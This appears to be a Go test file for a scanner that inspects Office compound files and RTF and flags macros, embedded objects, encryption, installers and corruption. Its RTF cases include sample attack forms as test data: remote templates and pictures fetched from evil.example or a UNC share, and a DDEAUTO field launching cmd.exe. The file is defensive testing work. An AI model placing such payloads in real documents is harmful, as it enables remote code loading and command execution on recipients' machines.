package ole

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"satchel/internal/oletest"
	"satchel/policies/verdict"
)

// record packs a record of a workbook.
func record(kind uint16, body ...byte) []byte {
	b := binary.LittleEndian.AppendUint16(nil, kind)
	return append(binary.LittleEndian.AppendUint16(b, uint16(len(body))), body...)
}

func workbook(records ...[]byte) []byte {
	bof := record(recordBOF, 0, 6, 5, 0)
	return append(append(bof, bytes.Join(records, nil)...), record(0x000a)...)
}

// slide packs a record of a presentation.
func slide(version, kind uint16, body []byte) []byte {
	b := binary.LittleEndian.AppendUint16(nil, version)
	b = binary.LittleEndian.AppendUint16(b, kind)
	return append(binary.LittleEndian.AppendUint32(b, uint32(len(body))), body...)
}

func packed(t *testing.T, content []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	_, err := z.Write(content)
	require.NoError(t, err)
	require.NoError(t, z.Close())
	return append(binary.LittleEndian.AppendUint32(nil, uint32(len(content))), b.Bytes()...)
}

func wordStream(flags uint16) []byte {
	b := make([]byte, 4096)
	binary.LittleEndian.PutUint16(b, 0xa5ec)
	binary.LittleEndian.PutUint16(b[10:], flags)
	return b
}

var (
	sheet  = record(recordBoundSheet, 0, 0, 0, 0, 0, 0, 1, 0, 'A')
	macros = record(recordBoundSheet, 0, 0, 0, 0, 0, 1, 1, 0, 'M')
	class  = func(first byte) []byte {
		return append([]byte{first, 0xce, 0x02, 0}, "\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"...)
	}
	msi       = []byte("\x84\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46")
	goodWord  = oletest.Entry{Name: "WordDocument", Content: wordStream(0)}
	goodSheet = oletest.Entry{Name: "Workbook", Content: workbook(sheet)}
)

func TestCompoundFiles(t *testing.T) {
	t.Parallel()
	slides := func(records ...[]byte) oletest.Entry {
		return oletest.Entry{Name: "PowerPoint Document", Content: bytes.Join(records, nil)}
	}
	withMacros := oletest.Compound(nil, oletest.Entry{Name: "x", Children: []oletest.Entry{{Name: "VBA", Children: []oletest.Entry{{Name: "dir", Content: []byte("x")}}}}})
	chart := oletest.Compound(nil, goodSheet)
	for name, tc := range map[string]struct {
		content  []byte
		document string
		rule     Rule
	}{
		"Word":                           {oletest.Compound(nil, goodWord, oletest.Entry{Name: "\x05SummaryInformation", Content: []byte("x")}), word, ""},
		"Excel":                          {oletest.Compound(nil, goodSheet), excel, ""},
		"Excel 5":                        {oletest.Compound(nil, oletest.Entry{Name: "Book", Content: workbook(sheet)}), excel, ""},
		"PowerPoint":                     {oletest.Compound(nil, slides(slide(0xf, 0x03e8, slide(0, 0x03e9, []byte("x"))))), powerPoint, ""},
		"Publisher":                      {oletest.Compound(nil, oletest.Entry{Name: "Quill", Children: []oletest.Entry{{Name: "QuillSub", Content: []byte("x")}}}), publisher, ""},
		"Visio":                          {oletest.Compound(nil, oletest.Entry{Name: "VisioDocument", Content: []byte("x")}), visio, ""},
		"another compound file":          {oletest.Compound(nil, oletest.Entry{Name: "__properties_version1.0", Content: []byte("x")}), "", ""},
		"Word with a table of Excel":     {oletest.Compound(nil, goodWord, oletest.Entry{Name: "ObjectPool", Children: []oletest.Entry{{Name: "_1", Children: []oletest.Entry{goodSheet}}}}), word, ""},
		"PowerPoint with a chart":        {oletest.Compound(nil, slides(slide(0x10, recordStorage, packed(t, chart)))), powerPoint, ""},
		"Word with macros":               {oletest.Compound(nil, goodWord, oletest.Entry{Name: "Macros", Children: []oletest.Entry{{Name: "VBA", Content: []byte("x")}}}), "", Macros},
		"Excel with macros":              {oletest.Compound(nil, goodSheet, oletest.Entry{Name: "_VBA_PROJECT_CUR", Children: []oletest.Entry{{Name: "VBA", Content: []byte("x")}}}), "", Macros},
		"Excel 4 macros":                 {oletest.Compound(nil, oletest.Entry{Name: "Workbook", Content: workbook(sheet, macros)}), "", Macros},
		"Excel 4 macros by their stream": {oletest.Compound(nil, oletest.Entry{Name: "Workbook", Content: append(workbook(sheet), record(recordBOF, 0, 6, 0x40, 0)...)}), "", Macros},
		"an inner workbook's macros":     {oletest.Compound(nil, goodWord, oletest.Entry{Name: "ObjectPool", Children: []oletest.Entry{{Name: "_1", Children: []oletest.Entry{{Name: "Workbook", Content: workbook(macros)}}}}}), "", Macros},
		"PowerPoint with macros":         {oletest.Compound(nil, slides(slide(0xf, 0x03e8, slide(0, recordVBAInfoAtom, []byte("\x01\x00\x00\x00\x01\x00\x00\x00\x02\x00\x00\x00"))))), "", Macros},
		"an object's macros":             {oletest.Compound(nil, slides(slide(0x10, recordStorage, packed(t, withMacros)))), "", Macros},
		"an object's macros, unpacked":   {oletest.Compound(nil, slides(slide(0, recordStorage, withMacros))), "", Macros},
		"an embedded file":               {oletest.Compound(nil, goodWord, oletest.Entry{Name: "ObjectPool", Children: []oletest.Entry{{Name: "_1", Children: []oletest.Entry{{Name: "\x01Ole10Native", Content: []byte("x")}}}}}), "", EmbeddedObject},
		"an old equation":                {oletest.Compound(nil, goodWord, oletest.Entry{Name: "ObjectPool", Children: []oletest.Entry{{Name: "_1", Children: []oletest.Entry{{Name: "Equation Native", Content: []byte("x")}}}}}), "", EmbeddedObject},
		"an old equation by its class":   {oletest.Compound(nil, goodWord, oletest.Entry{Name: "_1", Class: class(2), Children: []oletest.Entry{{Name: "x", Content: []byte("x")}}}), "", EmbeddedObject},
		"an equation of MathType":        {oletest.Compound(nil, goodWord, oletest.Entry{Name: "ObjectPool", Children: []oletest.Entry{{Name: "_1", Class: class(3), Children: []oletest.Entry{{Name: "Equation Native", Content: []byte("x")}}}}}), word, ""},
		"Word with a password":           {oletest.Compound(nil, oletest.Entry{Name: "WordDocument", Content: wordStream(0x100)}), "", Encrypted},
		"Excel with a password":          {oletest.Compound(nil, oletest.Entry{Name: "Workbook", Content: workbook(record(recordFilePass, 1, 0), sheet)}), "", Encrypted},
		"PowerPoint with a password":     {oletest.Compound(nil, oletest.Entry{Name: "Current User", Content: append(make([]byte, 12), 0xdf, 0xc4, 0xd1, 0xf3)}), "", Encrypted},
		"a new document with a password": {oletest.Compound(nil, oletest.Entry{Name: "EncryptionInfo", Content: []byte("x")}, oletest.Entry{Name: "EncryptedPackage", Content: []byte("x")}), "", Encrypted},
		"an installer":                   {oletest.Compound(msi, goodWord), "", Executable},
		"a workbook that breaks off":     {oletest.Compound(nil, oletest.Entry{Name: "Workbook", Content: append(bytes.Repeat(sheet, 400), 0x01, 0x01, 0xff, 0xff)}), "", Corrupt},
		"no Word in it":                  {oletest.Compound(nil, oletest.Entry{Name: "WordDocument", Content: []byte("x")}), "", Corrupt},
		"cut off":                        {oletest.Compound(nil, goodWord)[:3000], "", Corrupt},
		"a header alone":                 {[]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "", Corrupt},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			document, err := Inspect(bytes.NewReader(tc.content), int64(len(tc.content)), Embedded{})
			if tc.rule == "" {
				require.NoError(t, err)
				require.Equal(t, tc.document, document)
				return
			}
			var finding *Finding
			require.ErrorAs(t, err, &finding)
			require.Equal(t, tc.rule, finding.Rule)
			require.Empty(t, document)
		})
	}
	_, err := Inspect(bytes.NewReader(nil), MaxSize+1, Embedded{})
	require.ErrorContains(t, err, string(TooLarge))
}

type broken struct{ err error }

func (b broken) ReadAt([]byte, int64) (int, error) { return 0, b.err }

func (b broken) Read([]byte) (int, error) { return 0, b.err }

// A store that fails is tried again and is no finding about the document.
func TestReaderFails(t *testing.T) {
	t.Parallel()
	down := errors.New("down")
	_, err := Inspect(broken{down}, 10_000, Embedded{})
	require.ErrorIs(t, err, down)
	require.ErrorIs(t, InspectRTF(broken{down}), down)
}

func TestRichText(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		content string
		rule    Rule
	}{
		"a letter":                   {`{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 Dear parents,\par see you at http://school.example\par}`, ""},
		"with a picture":             {`{\rtf1{\pict\pngblip ` + strings.Repeat("89504e47", 10_000) + `}}`, ""},
		"with a hyperlink":           {`{\rtf1{\field{\*\fldinst HYPERLINK "http://school.example"}{\fldrslt here}}}`, ""},
		"with a template of its own": {`{\rtf1{\*\template C:\\Templates\\Letter.dotx}}`, ""},
		"an object":                  {`{\rtf1{\object\objemb{\*\objdata 0105}}}`, EmbeddedObject},
		"data of an object alone":    {`{\rtf1{\*\objdata 0105}}`, EmbeddedObject},
		"data behind an odd word":    {"{\\rtf1{\\*\\\\objdata\n0105}}", EmbeddedObject},
		"a template of the web":      {`{\rtf1{\*\template http://evil.example/a.dotm}}`, RemoteTemplate},
		"a template of a share":      {`{\rtf1{\*\template \\\\evil\\a.dotm}}`, RemoteTemplate},
		"a picture of the web":       {`{\rtf1{\field{\*\fldinst INCLUDEPICTURE "http://evil.example/a.png" \\d}}}`, RemoteTemplate},
		"a command":                  {`{\rtf1{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"}}}`, Macros},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			err := InspectRTF(strings.NewReader(tc.content))
			if tc.rule == "" {
				require.NoError(t, err)
				return
			}
			var finding *Finding
			require.ErrorAs(t, err, &finding)
			require.Equal(t, tc.rule, finding.Rule)
		})
	}
}

func TestEveryRuleHasSentences(t *testing.T) {
	t.Parallel()
	for _, reason := range Reasons() {
		require.NotEmpty(t, reason.What)
		require.NotEmpty(t, reason.Next)
		require.Contains(t, []verdict.Verdict{verdict.Rejected, verdict.Unscannable}, reason.Class)
		require.Equal(t, reason, reason.Rule.Reason())
	}
}

func FuzzInspect(f *testing.F) {
	f.Add(oletest.Compound(nil, goodWord))
	f.Add(oletest.Compound(nil, goodSheet, oletest.Entry{Name: "a", Children: []oletest.Entry{goodWord}}))
	f.Add(oletest.Compound(nil, oletest.Entry{Name: "PowerPoint Document", Content: slide(0x10, recordStorage, oletest.Compound(nil, goodSheet))}))
	f.Fuzz(func(t *testing.T, content []byte) {
		_, err := Inspect(bytes.NewReader(content), int64(len(content)), Embedded{})
		var finding *Finding
		require.True(t, err == nil || errors.As(err, &finding), "%v", err)
	})
}

func FuzzRTF(f *testing.F) {
	f.Add([]byte(`{\rtf1{\*\objdata 0105}}`))
	f.Fuzz(func(t *testing.T, content []byte) {
		err := InspectRTF(io.Reader(bytes.NewReader(content)))
		var finding *Finding
		require.True(t, err == nil || errors.As(err, &finding), "%v", err)
	})
}
